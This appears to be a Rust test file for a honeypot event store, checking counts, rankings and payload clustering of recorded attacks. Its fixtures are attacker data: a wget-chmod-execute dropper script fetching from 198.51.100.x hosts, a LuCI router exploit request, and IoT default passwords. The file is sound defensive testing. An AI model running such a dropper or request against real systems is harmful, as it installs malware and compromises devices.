//! Rollups against a plain count of the same events.

use std::collections::{BTreeMap, BTreeSet};

use kizashi_event::{
    Attempt, Backscatter, BackscatterKind, Detail, Event, Key, KeyKind, Payload, PayloadHash,
    PayloadOrigin, Port, Timestamp,
};
use kizashi_store::{BinLength, Span};
use proptest::prelude::*;

use crate::support::{Folder, event, live, login, midnight};

const MINUTE: i64 = 60 * Timestamp::SECOND;

fn made_up() -> impl Strategy<Value = Vec<Event>> {
    let one = (0_i64..4 * 24 * 60, 0_u32..40, 0_u16..4, 0_u8..4);
    prop::collection::vec(one, 1..300).prop_map(|drawn| {
        drawn
            .into_iter()
            .enumerate()
            .map(|(number, (minute, source, port, what))| {
                let detail = match what {
                    0 => Detail::Connect,
                    1 => login("root", "12345"),
                    2 => login(&format!("user{}", source % 5), "12345"),
                    _ => Detail::Command { line: "uname -a".into(), known: Some(true) },
                };
                event(number as u64, midnight().plus(minute * MINUTE), source, 22 + port, detail)
            })
            .collect()
    })
}

/// (key, bin of `length`) → events and distinct sources; those of pairs are not counted.
fn plain_count(events: &[Event], length: i64) -> BTreeMap<(Key, i64), (u64, u64)> {
    let mut found: BTreeMap<(Key, i64), (u64, BTreeSet<_>)> = BTreeMap::new();
    for event in events {
        event.each_key(|kind, text| {
            let place = (Key::new(kind, text), event.time.floor_to(length).micros());
            let (events, sources) = found.entry(place).or_default();
            *events += 1;
            if kind != KeyKind::Pair {
                sources.insert(event.source);
            }
        });
    }
    found
        .into_iter()
        .map(|(place, (events, sources))| (place, (events, sources.len() as u64)))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]
    #[test]
    fn hours_days_and_rankings_equal_a_plain_count_in_any_batches_settled_or_not(
        events in made_up(),
        batch in 1_usize..100,
        settle in any::<bool>(),
    ) {
        let folder = Folder::new();
        let end = midnight().plus(4 * Timestamp::DAY);
        let store = live(&folder, end);
        for batch in events.chunks(batch) {
            store.write(batch.to_vec()).unwrap();
            store.flush().unwrap();
        }
        if settle {
            store.maintain(end.plus(20 * Timestamp::DAY)).unwrap();
        }
        let reader = store.reader().unwrap();
        for length in [BinLength::Hour, BinLength::Day] {
            for ((key, start), (count, sources)) in plain_count(&events, length.micros()) {
                let start = Timestamp::from_micros(start);
                let span = Span { since: Some(start), until: Some(start.plus(length.micros())) };
                let points = reader.series(&key, length, span).unwrap();
                prop_assert_eq!(points.len(), 1);
                prop_assert_eq!((points[0].events, points[0].sources), (count, sources), "{} {}", key, length.name());
            }
        }
        let whole = plain_count(&events, i64::MAX / 4);
        for span in [Span::default(), Span { since: Some(midnight()), until: Some(end) }] {
            for kind in KeyKind::ALL {
                let ranking = reader.top(kind, span, 1_000).unwrap();
                prop_assert!(ranking.windows(2).all(|pair| pair[0].events >= pair[1].events));
                let found: BTreeMap<Key, (u64, u64)> =
                    ranking.into_iter().map(|row| (row.key, (row.events, row.sources))).collect();
                let expected: BTreeMap<Key, (u64, u64)> = whole
                    .iter()
                    .filter(|((key, _), _)| key.kind == kind)
                    .map(|((key, _), counts)| (key.clone(), *counts))
                    .collect();
                prop_assert_eq!(found, expected);
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]
    #[test]
    fn whatever_comes_again_among_what_is_new_adds_nothing(
        events in made_up(),
        batch in 1_usize..150,
        again in prop::collection::vec((any::<prop::sample::Index>(), any::<prop::sample::Index>()), 0..40),
    ) {
        let folder = Folder::new();
        let store = live(&folder, midnight().plus(4 * Timestamp::DAY));
        let mut batches: Vec<Vec<Event>> = events.chunks(batch).map(<[Event]>::to_vec).collect();
        for (which, to) in again {
            let to = to.index(batches.len());
            batches[to].push(which.get(&events).clone());
        }
        for batch in batches {
            store.inlet().commit(batch).unwrap();
        }
        let reader = store.reader().unwrap();
        let overview = reader.overview().unwrap();
        let count = events.len() as u64;
        prop_assert_eq!((overview.events, overview.events_raw), (count, count));
        let whole = plain_count(&events, i64::MAX / 4);
        for kind in KeyKind::ALL {
            for row in reader.top(kind, Span::default(), 1_000).unwrap() {
                let expected = whole.iter().find(|((key, _), _)| *key == row.key).map(|(_, counts)| *counts);
                prop_assert_eq!(Some((row.events, row.sources)), expected, "{}", row.key);
            }
        }
        for ((key, start), (count, sources)) in plain_count(&events, BinLength::Hour.micros()) {
            let start = Timestamp::from_micros(start);
            let span = Span { since: Some(start), until: Some(start.plus(Timestamp::HOUR)) };
            let points = reader.series(&key, BinLength::Hour, span).unwrap();
            prop_assert_eq!((points[0].events, points[0].sources), (count, sources), "{}", key);
        }
    }
}

#[test]
fn the_same_events_twice_count_once() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::DAY));
    let events: Vec<Event> =
        (0..100).map(|n| event(n, midnight().plus(n as i64), 1, 22, login("root", "a"))).collect();
    for _ in 0..2 {
        store.write(events.clone()).unwrap();
        store.flush().unwrap();
    }
    let overview = store.reader().unwrap().overview().unwrap();
    assert_eq!((overview.events, overview.events_raw, overview.sources), (100, 100, 1));
}

#[test]
fn a_span_that_cuts_days_counts_only_its_hours() {
    let folder = Folder::new();
    let end = midnight().plus(3 * Timestamp::DAY);
    let store = live(&folder, end);
    let hourly = (0..72).map(|hour| {
        event(
            hour,
            midnight().plus(hour as i64 * Timestamp::HOUR),
            hour as u32 % 30,
            22,
            Detail::Connect,
        )
    });
    store.write(hourly.collect()).unwrap();
    store.flush().unwrap();
    let reader = store.reader().unwrap();
    for (since, until) in [(0, 72), (5, 6), (5, 20), (5, 30), (5, 53), (24, 48), (23, 49), (30, 71)]
    {
        let at = |hour: i64| Some(midnight().plus(hour * Timestamp::HOUR));
        let top =
            reader.top(KeyKind::Port, Span { since: at(since), until: at(until) }, 5).unwrap();
        let hours = (until - since) as u64;
        assert_eq!((top[0].events, top[0].sources), (hours, hours.min(30)), "{since} to {until}");
    }
}

#[test]
fn ten_minutes_are_kept_for_ports_and_refused_for_others() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::DAY));
    let events = [(1, 0, 7), (2, 9, 7), (3, 9, 8), (4, 10, 7)];
    let events = events.map(|(n, minute, source)| {
        event(n, midnight().plus(minute * MINUTE), source, 22, Detail::Connect)
    });
    store.write(events.to_vec()).unwrap();
    store.flush().unwrap();
    let reader = store.reader().unwrap();
    let points =
        reader.series(&Key::port(Port::tcp(22)), BinLength::TenMinutes, Span::default()).unwrap();
    let counts: Vec<(u64, u64)> =
        points.iter().map(|point| (point.events, point.sources)).collect();
    assert_eq!(counts, [(3, 2), (1, 1)]);
    assert!(reader.series(&Key::total(), BinLength::TenMinutes, Span::default()).is_err());
    let long =
        Span { since: Some(midnight()), until: Some(midnight().plus(9_999 * Timestamp::DAY)) };
    assert!(reader.series(&Key::total(), BinLength::Hour, long).is_err());
}

#[test]
fn what_visitors_did_is_told_with_the_first_bytes_of_what_they_sent() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::DAY));
    let payload = Payload {
        sha256: PayloadHash([7; 32]),
        size: Some(5),
        content: b"\x1b[2J<script>".to_vec(),
        origin: PayloadOrigin::Sent,
        name: None,
        url: None,
        left_out: false,
    };
    let mut events: Vec<Event> =
        (0..5).map(|n| event(n, midnight(), 1, 22, login("root", "xc3511"))).collect();
    events.push(event(10, midnight(), 2, 22, Detail::Payload(Box::new(payload))));
    events.push(event(11, midnight(), 3, 23, login("other", "port")));
    store.write(events).unwrap();
    store.flush().unwrap();
    let reader = store.reader().unwrap();
    let evidence = reader.evidence(Some(&Key::port(Port::tcp(22))), Span::default()).unwrap();
    assert_eq!(evidence.users, [("root".to_owned(), 5)]);
    assert_eq!(evidence.passwords, [("xc3511".to_owned(), 5)]);
    assert_eq!(evidence.payloads, [("\\x1b[2J<script>".to_owned(), 1)]);
    assert_eq!(evidence.sources[0], ("198.18.0.1".to_owned(), 5));
    assert_eq!(evidence.events_read, 6);
    assert_eq!(reader.recent(3).unwrap().len(), 3);
}

#[test]
fn a_closed_bin_holds_its_keys_live_and_when_read_again_and_of_a_flood_those_with_most_sources() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::HOUR));
    let mut events: Vec<Event> = (0..5_000_u32)
        .map(|n| event(u64::from(n), midnight(), n, 22, login("root", &format!("made up {n}"))))
        .collect();
    let shared = |n: u32| event(u64::from(10_000 + n), midnight(), n, 22, login("root", "xmhdipc"));
    events.extend((0..3).map(shared));
    store.write(events).unwrap();
    store.flush().unwrap();
    let closed = store.close_bins(midnight().plus(Timestamp::HOUR)).unwrap();
    let keys = &closed[0].keys;
    let of = |kind| keys.iter().filter(|row| row.key.kind == kind).collect::<Vec<_>>();
    assert_eq!(of(KeyKind::Password).len(), 4_096);
    let known = of(KeyKind::Password).into_iter().find(|row| &*row.key.text == "xmhdipc").unwrap();
    assert_eq!((known.events, known.sources.len()), (3, 3));
    assert_eq!(of(KeyKind::User)[0].sources.len(), 5_000);
    assert_eq!(of(KeyKind::Total)[0].events, 5_003);
    assert!(of(KeyKind::Pair).iter().any(|row| &*row.key.text == "root/xmhdipc"));
    let mut again = Vec::new();
    store.reader().unwrap().closed_bins(None, |bin| again.push(bin)).unwrap();
    assert_eq!(closed, again);
    let key = Key::new(KeyKind::Password, "xmhdipc");
    let evidence = store.reader().unwrap().evidence(Some(&key), Span::default()).unwrap();
    assert_eq!((evidence.events_read, evidence.passwords), (3, vec![("xmhdipc".to_owned(), 3)]));
}

fn sent(number: u64, source: u32, content: &[u8]) -> Event {
    let mut sha256 = [0_u8; 32];
    for (at, byte) in content.iter().enumerate() {
        sha256[at % 32] = sha256[at % 32].wrapping_mul(31).wrapping_add(*byte);
    }
    let payload = Payload {
        sha256: PayloadHash(sha256),
        size: None,
        content: content.to_vec(),
        origin: PayloadOrigin::Sent,
        name: None,
        url: None,
        left_out: false,
    };
    event(number, midnight(), source, 8080, Detail::Payload(Box::new(payload)))
}

#[test]
fn contents_that_change_with_each_visit_are_one_cluster_also_when_the_store_is_opened_again() {
    let folder = Folder::new();
    let end = midnight().plus(Timestamp::DAY);
    let script = |n: u32| {
        format!(
            "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root;\nwget http://198.51.100.{n}/bins/look-alike-{n:04x}; \
             chmod 777 look-alike-{n:04x}; ./look-alike-{n:04x} telnet; rm -rf look-alike-{n:04x}\n"
        )
    };
    let write = |events: Vec<Event>| {
        let store = live(&folder, end);
        store.write(events).unwrap();
        store.flush().unwrap();
        store
    };
    drop(write((0..5).map(|n| sent(u64::from(n), n, script(n).as_bytes())).collect()));
    let other = b"GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1 and more".to_vec();
    let mut events: Vec<Event> =
        (5..9).map(|n| sent(u64::from(n), n, script(n).as_bytes())).collect();
    events.extend((0..2).map(|n| sent(100 + n, 50, &other)));
    events.push(sent(200, 51, b"short"));
    let store = write(events);
    let reader = store.reader().unwrap();
    let top = reader.top(KeyKind::PayloadCluster, Span::default(), 10).unwrap();
    let counts: Vec<(u64, u64)> = top.iter().map(|row| (row.events, row.sources)).collect();
    assert_eq!(counts, [(9, 9), (2, 1)]);
    assert_eq!(reader.top(KeyKind::Payload, Span::default(), 20).unwrap().len(), 11);
    let evidence = reader.evidence(Some(&top[0].key), Span::default()).unwrap();
    assert_eq!((evidence.events_read, evidence.sources.len()), (9, 9));
    let closed = store.close_bins(end).unwrap();
    let rows = closed[0].keys.iter().filter(|row| row.key.kind == KeyKind::PayloadCluster);
    assert_eq!(rows.map(|row| row.sources.len()).collect::<Vec<_>>(), [9, 1]);
}

#[test]
fn visitors_of_one_network_are_counted_together_and_shown_apart() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::DAY));
    let mut events: Vec<Event> =
        (0..4).map(|n| event(n, midnight(), n as u32, 22, login("root", "a"))).collect();
    for (number, address) in [(10, "2001:db8:7::1"), (11, "2001:db8:8::1"), (12, "2001:db9::1")] {
        let source = address.parse().unwrap();
        events.push(Event { source, ..event(number, midnight(), 0, 22, Detail::Connect) });
    }
    store.write(events).unwrap();
    store.flush().unwrap();
    let reader = store.reader().unwrap();
    let top = reader.top(KeyKind::Network, Span::default(), 10).unwrap();
    let texts: Vec<(&str, u64)> = top.iter().map(|row| (&*row.key.text, row.sources)).collect();
    assert_eq!(texts, [("198.18.0.0/16", 4), ("2001:db8::/32", 2), ("2001:db9::/32", 1)]);
    for (row, sources) in top.iter().zip([4, 2, 1]) {
        let evidence = reader.evidence(Some(&row.key), Span::default()).unwrap();
        assert_eq!((evidence.sources.len(), evidence.events_read), (sources, sources as u64));
    }
}

#[test]
fn a_fingerprint_of_software_is_watched_as_its_name_is() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::HOUR));
    let hello = |n: u32| {
        let detail = Detail::Client {
            version: Some("SSH-2.0-Go".into()),
            fingerprint: Some("hassh:0a07365cc01fa9fc82608ba4019af499".into()),
            algorithms: None,
        };
        event(u64::from(n), midnight(), n, 22, detail)
    };
    store.write((0..3).map(hello).collect()).unwrap();
    store.flush().unwrap();
    let closed = store.close_bins(midnight().plus(Timestamp::HOUR)).unwrap();
    for kind in [KeyKind::Fingerprint, KeyKind::Client] {
        let row = closed[0].keys.iter().find(|row| row.key.kind == kind).unwrap();
        assert_eq!(row.sources.len(), 3);
    }
    let top = store.reader().unwrap().top(KeyKind::Fingerprint, Span::default(), 5).unwrap();
    assert_eq!((&*top[0].key.text, top[0].sources), ("hassh:0a07365cc01fa9fc82608ba4019af499", 3));
}

#[test]
fn an_event_that_stands_for_many_counts_as_many_and_its_source_once() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(Timestamp::DAY));
    let counted = |number, source, events, sessions| {
        event(number, midnight().plus(MINUTE), source, 22, Detail::Counted { events, sessions })
    };
    let of_many = Event { source: [0, 0, 0, 0].into(), ..counted(4, 0, 1_000, 500) };
    let one = event(1, midnight(), 1, 22, Detail::Connect);
    store.write(vec![one, counted(2, 1, 40, 20), counted(3, 2, 5, 0), of_many]).unwrap();
    store.flush().unwrap();
    let reader = store.reader().unwrap();
    let overview = reader.overview().unwrap();
    assert_eq!((overview.events, overview.events_raw, overview.sessions), (1_046, 4, 521));
    assert_eq!(overview.sources, 2, "many are none that has a name");
    let day = Span { since: Some(midnight()), until: Some(midnight().plus(Timestamp::DAY)) };
    for (kind, wanted) in [(KeyKind::Port, (1_046, 521, 2)), (KeyKind::Service, (1_046, 521, 2))] {
        for span in [Span::default(), day] {
            let top = reader.top(kind, span, 1).unwrap();
            assert_eq!((top[0].events, top[0].sessions, top[0].sources), wanted, "{kind:?}");
        }
    }
    let sources = reader.top(KeyKind::Source, day, 9).unwrap();
    let shown: Vec<(&str, u64)> = sources.iter().map(|row| (&*row.key.text, row.events)).collect();
    assert_eq!(shown, [("198.18.0.1", 41), ("198.18.0.2", 5)]);
    let bins = store.close_bins(midnight().plus(Timestamp::HOUR)).unwrap();
    let port = &bins[0].ports[0];
    assert_eq!((port.events, port.sources.len()), (1_046, 2));
    let evidence = reader.evidence(Some(&Key::port(Port::tcp(22))), day).unwrap();
    assert_eq!(evidence.events_read, 1_046);
    assert_eq!(evidence.sources, [("198.18.0.1".to_owned(), 41), ("198.18.0.2".to_owned(), 5)]);
}

#[test]
fn the_echo_of_an_attack_elsewhere_is_a_series_of_its_own_and_nobodys_visit() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(30 * MINUTE));
    let echo = |number, source, packets| {
        let kind = BackscatterKind::SynAck;
        event(number, midnight(), source, 443, Detail::Backscatter(Backscatter { kind, packets }))
    };
    let nobody = Event { source: std::net::Ipv4Addr::UNSPECIFIED.into(), ..echo(3, 0, 50) };
    store.inlet().commit(vec![echo(1, 1, 900), echo(2, 2, 7), nobody]).unwrap();
    let reader = store.reader().unwrap();
    let ranked = reader.top(KeyKind::Backscatter, Span::default(), 10).unwrap();
    let counts: Vec<_> =
        ranked.iter().map(|row| (row.key.to_string(), row.events, row.sources)).collect();
    assert_eq!(counts, [("backscatter:tcp/443".to_owned(), 957, 2)]);
    for kind in KeyKind::ALL.into_iter().filter(|kind| *kind != KeyKind::Backscatter) {
        assert!(
            reader.top(kind, Span::default(), 10).unwrap().iter().all(|row| row.events == 0),
            "{kind:?}"
        );
    }
    drop(reader);
    assert!(
        store.close_bins(midnight().plus(20 * MINUTE)).unwrap().is_empty(),
        "detection sees none"
    );
}

#[test]
fn an_attempt_that_a_trap_tells_too_counts_for_its_fingerprints_and_the_source_once() {
    let folder = Folder::new();
    let store = live(&folder, midnight().plus(30 * MINUTE));
    let attempt = |trapped| {
        let fingerprints = vec!["os:linux-5".into()];
        Detail::Attempt(Box::new(Attempt { fingerprints, trapped, ..Attempt::default() }))
    };
    let visit = event(1, midnight(), 1, 22, Detail::Connect);
    let seen = event(2, midnight(), 1, 22, attempt(true));
    let alone = event(3, midnight(), 2, 4_899, attempt(false));
    store.inlet().commit(vec![visit, seen, alone]).unwrap();
    let reader = store.reader().unwrap();
    let of = |kind: KeyKind, text: &str| {
        let rows = reader.top(kind, Span::default(), 10).unwrap();
        let row = rows.iter().find(|row| row.key.text.as_ref() == text).unwrap();
        (row.events, row.sources)
    };
    assert_eq!(of(KeyKind::Port, "tcp/22"), (1, 1));
    assert_eq!(of(KeyKind::Port, "tcp/4899"), (1, 1));
    assert_eq!(of(KeyKind::Total, ""), (2, 2));
    assert_eq!(of(KeyKind::Fingerprint, "os:linux-5"), (2, 2));
}
